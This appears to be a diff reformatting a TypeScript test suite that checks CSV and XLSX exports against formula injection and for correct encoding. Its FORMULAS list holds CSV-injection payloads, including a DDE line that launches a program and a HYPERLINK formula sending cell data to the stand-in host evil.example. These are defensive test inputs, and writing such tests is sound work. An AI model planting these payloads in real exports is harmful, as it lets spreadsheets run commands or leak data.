@@ -20,10 +20,14 @@ async function* rows(...parts: Cell[][][]) {
   yield* parts
 }
 const bytesOf = (stream: Readable) => buffer(stream)
-const csv = async (...lines: Cell[][]) => readCsv((await bytesOf(csvFile(HEADINGS, rows(lines)))).toString('utf8')).slice(1)
+const csv = async (...lines: Cell[][]) =>
+  readCsv((await bytesOf(csvFile(HEADINGS, rows(lines)))).toString('utf8')).slice(1)
 const sheet = async (...lines: Cell[][]) => readSheet(await bytesOf(xlsxFile(HEADINGS, rows(lines), NOW)))
 
-/** What spreadsheets have been made to run by what somebody typed into a form (OWASP, CSV injection), and ways around a naive guard. */
+/**
+ * What spreadsheets have been made to run by what somebody typed into a form (OWASP, CSV injection), and ways
+ * around a naive guard.
+ */
 const FORMULAS = [
   `=cmd|' /C calc'!A0`,
   '=HYPERLINK("http://evil.example?x="&A1,"Error")',
@@ -69,7 +73,10 @@ describe('T32 exported cells calculate nothing', () => {
     })
   }
   test('whatever is typed: CSV reads back as it was but for apostrophes, and no part of it begins a formula', async () => {
-    const piece = fc.oneof(fc.constantFrom(...FORMULAS, ';', ',', '"', '""', '\r\n', '\n', '\t', "'", ' '), fc.string({ unit: 'grapheme', maxLength: 8 }))
+    const piece = fc.oneof(
+      fc.constantFrom(...FORMULAS, ';', ',', '"', '""', '\r\n', '\n', '\t', "'", ' '),
+      fc.string({ unit: 'grapheme', maxLength: 8 }),
+    )
     const typed = fc.array(piece, { maxLength: 5 }).map((parts) => parts.join(''))
     await fc.assert(
       fc.asyncProperty(fc.array(typed, { minLength: 1, maxLength: 5 }), async (texts) => {
@@ -84,7 +91,16 @@ describe('T32 exported cells calculate nothing', () => {
     )
   })
   test('plain text stays as it is', () => {
-    for (const text of ['Wanjiru Ng’ang’a', "O'Brien", 'a=b', 'Jean-Pierre', 'me@example.com', 'Box 1 - Garissa', '']) assert.equal(csvCell(text), text)
+    for (const text of [
+      'Wanjiru Ng’ang’a',
+      "O'Brien",
+      'a=b',
+      'Jean-Pierre',
+      'me@example.com',
+      'Box 1 - Garissa',
+      '',
+    ])
+      assert.equal(csvCell(text), text)
     assert.equal(csvCell('Kamau, J.'), '"Kamau, J."')
     assert.equal(csvCell('say "yes"'), '"say ""yes"""')
   })
@@ -106,7 +122,19 @@ describe('exported files are what they say', () => {
       'x'.repeat(40_000),
     ]
     const { rows: read } = await sheet(...odd.map((text): Cell[] => [text, null, null]))
-    const wanted = ['ab', 'half  letter', '', ']]>', '<b>&amp;</b>', '_x0041_', '  spaces  ', 'two\nlines', '🗳️', '"quoted"', 'x'.repeat(32_767)]
+    const wanted = [
+      'ab',
+      'half  letter',
+      '',
+      ']]>',
+      '<b>&amp;</b>',
+      '_x0041_',
+      '  spaces  ',
+      'two\nlines',
+      '🗳️',
+      '"quoted"',
+      'x'.repeat(32_767),
+    ]
     assert.deepEqual(
       read.slice(1).map(({ A }) => A),
       wanted,
@@ -114,7 +142,11 @@ describe('exported files are what they say', () => {
   })
   test('XLSX: numbers and times are numbers; what is not there is no cell; a number that is none is not written', async () => {
     const { rows: read, xml } = await sheet(['0712', 12, NOW], [null, null, null], ['', Number.NaN, NOW])
-    assert.deepEqual(read.slice(1), [{ A: '0712', B: 12, C: 46_350.584_722_222_22 }, {}, { C: 46_350.584_722_222_22 }])
+    assert.deepEqual(read.slice(1), [
+      { A: '0712', B: 12, C: 46_350.584_722_222_22 },
+      {},
+      { C: 46_350.584_722_222_22 },
+    ])
     assert.match(xml, /<cols><col min="1" max="1" width="20" customWidth="1"\/>/)
   })
   test('columns are named as spreadsheets name them', () => {
@@ -140,7 +172,9 @@ describe('exported files are what they say', () => {
           seen.ended = true
         }
       })()
-    test(`${name}: little is made ahead of the reader, and nothing once the reader has left`, { timeout: 10_000 }, async () => {
+    test(`${name}: little is made ahead of the reader, and nothing once the reader has left`, {
+      timeout: 10_000,
+    }, async () => {
       const seen = { pages: 0, ended: false }
       const stream = file(HEADINGS, endless(seen))
       const closed = new Promise((done) => stream.once('close', done))
